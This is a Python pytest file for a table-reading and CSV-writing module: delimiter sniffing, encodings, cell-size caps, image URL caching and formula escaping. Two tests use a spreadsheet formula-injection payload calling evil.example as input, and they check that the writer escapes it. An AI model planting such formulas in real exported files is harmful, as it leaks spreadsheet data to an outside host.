"""data_preprocessing/table.py: dialects, encodings, columns, the cell cap, image sources,
fingerprints and the CSV writer every output goes through."""

from __future__ import annotations

import csv
import io
import logging
from pathlib import Path

import numpy as np
import pytest

from data_preprocessing.download import DownloadConfig, cache_path, is_url
from data_preprocessing.table import (MAX_LISTED_COLUMNS, ColumnMap, ReadOptions, TableError,
                                      first_undecodable_byte, image_source, load_fingerprints, post_fingerprint,
                                      read_table, resolve_image_sources, safe_cell, safe_csv_writer,
                                      save_fingerprints, write_rejects)
from tests.image_server import LoopbackServer, static
from tests.tiny_posts import ABSENT, POSTS_HEADER, write_table

HEADER = ["post_id", "image_path", "description", "engagement", "followers"]
ROWS = [["p1", "a.jpg", "Café crème €5 „quoted“", "10", "13,579"],  # all in cp1252 too
        ["p2", "b.jpg", "naïve; with a semicolon, and a comma", "3", ""]]
COLUMNS = ColumnMap(features={"followers": "--numeric-cols"})


def _cells(table) -> list[list]:
    return [[table.images[r], table.captions[r], table.cells["engagement"][r], table.cells["followers"][r]]
            for r in range(len(table))]


EXPECTED = [[r[1], r[2], r[3], r[4]] for r in ROWS]


@pytest.mark.parametrize("sep", [",", ";", "\t"])
def test_the_delimiter_is_sniffed(tmp_path, sep):
    table = read_table(write_table(tmp_path / "posts.csv", HEADER, ROWS, sep=sep), COLUMNS)
    assert (table.dialect.sep, table.dialect.sep_source) == (sep, "sniffed")
    assert _cells(table) == EXPECTED and table.header == HEADER


def test_sep_overrides_the_sniffer(tmp_path):
    # A header whose names hold commas: the sniffer picks the comma (most fields), --sep knows better.
    path = write_table(tmp_path / "posts.csv", ["image_path", "description", "engagement", "a,b,c,d"],
                       [["a.jpg", "x", "1", "y"]], sep=";")
    assert read_table(path, ColumnMap()).dialect.sep == ";"  # the wanted columns decide
    odd = write_table(tmp_path / "odd.csv", HEADER, ROWS, sep="|")
    table = read_table(odd, COLUMNS, ReadOptions(sep="|"))
    assert (table.dialect.sep, table.dialect.sep_source) == ("|", "--sep") and _cells(table) == EXPECTED
    tabbed = read_table(write_table(tmp_path / "t.tsv", HEADER, ROWS, sep="\t"), COLUMNS, ReadOptions(sep="tab"))
    assert tabbed.dialect.sep == "\t"
    with pytest.raises(ValueError, match="--sep"):
        ReadOptions(sep=";;")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_unicode_encodings_are_read_without_a_flag(tmp_path, encoding, caplog):
    path = write_table(tmp_path / "posts.csv", HEADER, ROWS, sep=";", encoding=encoding)
    with caplog.at_level(logging.WARNING):
        table = read_table(path, COLUMNS)
    assert _cells(table) == EXPECTED and table.header[0] == "post_id"  # no BOM in the first name
    assert "cp1252" not in caplog.text


def test_a_cp1252_file_is_read_as_cp1252_and_the_log_says_so(tmp_path, caplog):
    path = write_table(tmp_path / "posts.csv", HEADER, ROWS[:1], sep=";", encoding="cp1252")
    with caplog.at_level(logging.WARNING, logger="data_preprocessing.table"):
        table = read_table(path, COLUMNS)
    assert _cells(table) == EXPECTED[:1] and table.dialect.encoding == "cp1252"
    offset = path.read_bytes().index("é".encode("cp1252"))
    assert f"posts.csv is not UTF-8 (byte {offset} " in caplog.text and "reading it as cp1252" in caplog.text
    # --encoding forces one: read as latin-1, the euro sign (0x80 in cp1252) is a control character.
    forced = read_table(path, COLUMNS, ReadOptions(encoding="latin-1"))
    assert forced.dialect.encoding == "latin-1" and forced.captions[0] == "Café crème \x805 \x84quoted\x93"


def test_an_undecodable_file_is_one_line_with_the_byte_offset(tmp_path):
    # latin-1 writes U+0081 as the byte 0x81, which neither UTF-8 nor cp1252 decodes.
    path = write_table(tmp_path / "posts.csv", POSTS_HEADER, [["a.jpg", "ok", 1], ["b.jpg", "bad \x81 byte", 2]],
                       encoding="latin-1")
    offset = path.read_bytes().index(b"\x81")
    with pytest.raises(TableError) as e:
        read_table(path, ColumnMap())
    msg = str(e.value)
    assert "\n" not in msg and str(path) in msg and f"byte {offset} " in msg and "--encoding" in msg
    with pytest.raises(TableError, match=f"byte {offset} cannot be decoded as utf-8"):
        read_table(path, ColumnMap(), ReadOptions(encoding="utf-8"))


def test_first_undecodable_byte_counts_from_the_start_of_the_file(tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(b"\xef\xbb\xbf" + "é".encode() * 700_000 + b"\xff")  # past one 1 MiB read, after a BOM
    assert first_undecodable_byte(path, "utf-8-sig") == path.stat().st_size - 1
    path.write_bytes("é".encode() + b"\xc3")  # a character cut off at the end
    assert first_undecodable_byte(path, "utf-8") == 2
    assert first_undecodable_byte(path, "latin-1") is None


def test_missing_columns_are_named_at_once_with_the_dialect_and_a_few_columns_found(tmp_path):
    path = write_table(tmp_path / "posts.csv", [f"col{i}" for i in range(5000)] + ["description"], [["x"] * 5001],
                       sep=";")
    with pytest.raises(TableError) as e:
        read_table(path, ColumnMap(text="description", features={"followers": "--numeric-cols"}))
    msg = str(e.value)
    assert msg.startswith("posts.csv: 3 columns not found: 'image_path' (--image-col), 'engagement' (--label-col), "
                          "'followers' (--numeric-cols).")
    assert "delimiter ';' (sniffed; --sep overrides)" in msg and "5,001 columns found: 'col0', 'col1'" in msg
    assert f"'col{MAX_LISTED_COLUMNS - 1}' and {5001 - MAX_LISTED_COLUMNS:,} more" in msg
    assert f"'col{MAX_LISTED_COLUMNS}'" not in msg and len(msg) < 1000


def test_a_wrong_sep_gets_a_hint(tmp_path):
    path = write_table(tmp_path / "posts.csv", HEADER, ROWS, sep=";")
    with pytest.raises(TableError, match="from --sep.*the header holds ';': try --sep ';'"):
        read_table(path, COLUMNS, ReadOptions(sep=","))


def test_a_long_cell_stops_reading_and_names_its_row(tmp_path):
    rows = [["a.jpg", "short", "1"], ["b.jpg", "", "2"], ["c.jpg", "x" * 2000, "3"]]
    path = write_table(tmp_path / "posts.csv", POSTS_HEADER, rows)
    assert len(read_table(path, ColumnMap(), ReadOptions(max_cell_chars=2000))) == 3
    with pytest.raises(TableError) as e:
        read_table(path, ColumnMap(), ReadOptions(max_cell_chars=1999))
    assert str(e.value) == "posts.csv: row 2 (line 4) has a cell longer than --max-cell-chars 1,999 characters"
    # An unclosed quote would swallow the rest of the file into one cell: stopped at the cap.
    # Raw text: write_table's csv.writer would close the quote.
    path.write_text('image_path,description,engagement\na.jpg,"open quote,1\n' + "b.jpg,more,2\n" * 500)
    with pytest.raises(TableError, match="row 0 .* has a cell longer than --max-cell-chars 1,000"):
        read_table(path, ColumnMap(), ReadOptions(max_cell_chars=1000))


def test_a_long_line_is_not_read_whole(tmp_path):
    path = write_table(tmp_path / "posts.csv", POSTS_HEADER,
                       [["a.jpg", "ok", 1], ["b.jpg", *["y"] * 200_000, 2]])  # 200,002 short cells
    with pytest.raises(TableError) as e:
        read_table(path, ColumnMap(), ReadOptions(max_cell_chars=1000))
    assert str(e.value).startswith("posts.csv: row 1 (line 3) is longer than 8,000 characters")


def test_jsonl_cells_are_capped_and_image_columns_fall_back(tmp_path):
    rows = [[ABSENT, "https://cdn.example/v.jpg", "video cover", 5],  # no thumbnail column in this object
            ["thumb.jpg", "movie-" + "m" * 40 + ".mp4", "a video", 7],
            ["", "photo.jpg", "a photo", 1],
            ["", "", "nothing", 2]]
    path = write_table(tmp_path / "posts.jsonl", ["thumbnail_url", "media_url", "caption", "likes"], rows)
    cols = ColumnMap(("thumbnail_url", "media_url"), "caption", "likes")
    table = read_table(path, cols)
    assert table.images == ["https://cdn.example/v.jpg", "thumb.jpg", "photo.jpg", ""]
    assert [table.label(r) for r in range(4)] == [(v, None, "") for v in (5.0, 7.0, 1.0, 2.0)]
    assert table.dialect.format == "jsonl"
    with pytest.raises(TableError, match=r"row 1 \(line 2\) has a cell longer than --max-cell-chars 26 .*'media_url'"):
        read_table(path, cols, ReadOptions(max_cell_chars=26))


def test_columns_named_twice_are_refused():
    with pytest.raises(ValueError, match=r"\['caption'\]"):
        ColumnMap(("image_path",), "caption", "caption")


def test_image_sources_and_the_url_seam(tmp_path):
    assert is_url("https://x.example/a.jpg") and is_url("ftp://x/a.jpg")
    assert not is_url("C:\\photos\\a.jpg") and not is_url("images/a:b.jpg")
    assert image_source("images/../images/a.jpg", tmp_path) == str(tmp_path / "images" / "a.jpg")
    assert image_source("/abs/a.jpg", tmp_path) == "/abs/a.jpg"
    assert image_source("https://x.example/a.jpg", tmp_path) == "https://x.example/a.jpg"


def test_url_cells_become_cached_files_in_row_order(tmp_path):
    """The download seam against a real loopback server: http(s) URLs are fetched once into
    the cache (a repeated URL too), a 404 and another scheme are rejects, local paths pass."""
    server = LoopbackServer({"/a.jpg": static(b"jpeg a", "image/jpeg"), "/b.jpg": static(b"jpeg b", "image/jpeg")})
    cfg = DownloadConfig(workers=2, timeout_s=5, cache_dir=tmp_path / "cache", tries=1)
    a, b, gone = server.url("/a.jpg"), server.url("/b.jpg"), server.url("/gone.jpg")
    todo = [(0, b), (1, "/abs/x.jpg"), (2, gone), (3, "ftp://x.example/a.jpg"), (4, a), (5, b)]
    try:
        local, rejects = resolve_image_sources(todo, cfg, progress=False)
    finally:
        server.stop()
    assert local == [(0, str(cache_path(b, cfg.cache_dir))), (1, "/abs/x.jpg"), (4, str(cache_path(a, cfg.cache_dir))),
                     (5, str(cache_path(b, cfg.cache_dir)))]
    assert Path(local[2][1]).read_bytes() == b"jpeg a"
    assert [(r, reason) for r, reason, _ in rejects] == [(2, "download_failed"), (3, "unsupported_url")]
    assert "404" in rejects[0][2]
    assert server.hits["/b.jpg"] == 1  # two rows, one request
    # The server is gone: the cached URLs still resolve, without a request.
    again, rejects = resolve_image_sources([(0, b), (4, a)], cfg, progress=False)
    assert again == [(0, local[0][1]), (4, local[2][1])] and rejects == []


def test_a_table_without_urls_starts_no_download(tmp_path):
    cfg = DownloadConfig(cache_dir=tmp_path / "cache")
    assert resolve_image_sources([(0, "/a.jpg")], cfg, progress=False) == ([(0, "/a.jpg")], [])
    assert not (tmp_path / "cache").exists()


def test_a_label_made_of_several_counts(tmp_path):
    path = write_table(tmp_path / "posts.csv", ["image_path", "description", "like_count", "comments_count"],
                       [["a.jpg", "x", "120", "7"], ["b.jpg", "y", "3", ""], ["c.jpg", "z", "1,000", "2"]])
    table = read_table(path, ColumnMap(label="like_count+comments_count"))
    assert table.label(0) == (127.0, None, "")
    assert table.label(1) == (None, "missing_label", "comments_count: empty label")
    assert table.label(2)[1] == "non_numeric_label"
    assert table.label_expr.to_dict()["columns"] == ["like_count", "comments_count"]
    with pytest.raises(TableError, match=r"1 column not found: 'shares' \(--label-col\)"):
        read_table(path, ColumnMap(label="like_count+shares"))
    with pytest.raises(ValueError, match="named for more than one role"):
        ColumnMap(label="like_count+comments_count", features={"like_count": "--numeric-cols"})


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_a_column_named_with_a_plus_is_one_column(tmp_path, suffix):
    path = write_table(tmp_path / f"posts{suffix}", ["image_path", "description", "likes+comments", "likes"],
                       [["a.jpg", "x", 9, 4]])
    table = read_table(path, ColumnMap(label="likes+comments"))
    assert table.label_expr.columns == ("likes+comments",) and table.label(0) == (9.0, None, "")


def test_an_optional_label_may_be_absent(tmp_path):
    path = write_table(tmp_path / "posts.csv", ["image_path", "description", "likes"], [["a.jpg", "x", "4"]])
    assert read_table(path, ColumnMap(label="likes+comments", label_optional=True)).label_expr is None
    assert read_table(path, ColumnMap(label="likes", label_optional=True)).label(0) == (4.0, None, "")


def test_fingerprints_hash_image_bytes_and_raw_caption(tmp_path):
    fp = post_fingerprint(b"jpeg bytes", "Hello #world")
    assert 0 <= fp < 2 ** 64 and fp == post_fingerprint(b"jpeg bytes", "Hello #world")
    assert fp != post_fingerprint(b"jpeg bytes", "hello #world")  # the raw caption, not the cleaned one
    assert fp != post_fingerprint(b"jpeg byte", "sHello #world")  # the boundary between the parts counts
    assert post_fingerprint(b"x", None) == post_fingerprint(b"x", "")
    save_fingerprints(tmp_path / "fingerprints.npz", {"train": [fp, 3], "val": [3, 2 ** 64 - 1], "test": [7]})
    got = load_fingerprints(tmp_path, ("train", "val"))
    assert got.dtype == np.uint64 and got.tolist() == sorted({fp, 3, 2 ** 64 - 1})
    assert load_fingerprints(tmp_path / "nowhere", ("train",)) is None


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)",
                                  "\tx", "\rx"])
def test_formula_cells_are_escaped(cell):
    assert safe_cell(cell) == "'" + cell
    assert safe_cell(safe_cell(cell)) == "'" + cell  # idempotent


def test_numbers_and_plain_text_are_written_as_they_are():
    buf = io.StringIO()
    safe_csv_writer(buf).writerow([-1.5, -3, "plain", "", "a=b", "'quoted", None])
    assert buf.getvalue() == "-1.5,-3,plain,,a=b,'quoted,\r\n"


def test_rejects_file_escapes_cells_and_sorts_by_row(tmp_path):
    write_rejects(tmp_path / "rejects.csv", [(3, "-x.jpg", "not_found", "no such file: -x.jpg"),
                                             (1, '=HYPERLINK("http://evil.example","click")', "not_found", "")])
    with open(tmp_path / "rejects.csv", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["row", "image_path", "reason", "detail"],
                    ["1", '\'=HYPERLINK("http://evil.example","click")', "not_found", ""],
                    ["3", "'-x.jpg", "not_found", "no such file: -x.jpg"]]


def test_a_column_read_for_the_split_keeps_its_cells_even_if_it_is_an_image_column(tmp_path):
    path = write_table(tmp_path / "posts.csv", POSTS_HEADER, [["a.jpg", "x", "1"]])
    table = read_table(path, ColumnMap(extra={"image_path": "--split"}))
    assert table.images == ["a.jpg"] and table.cells["image_path"] == ["a.jpg"]
    assert "image_path" not in read_table(path, ColumnMap()).cells
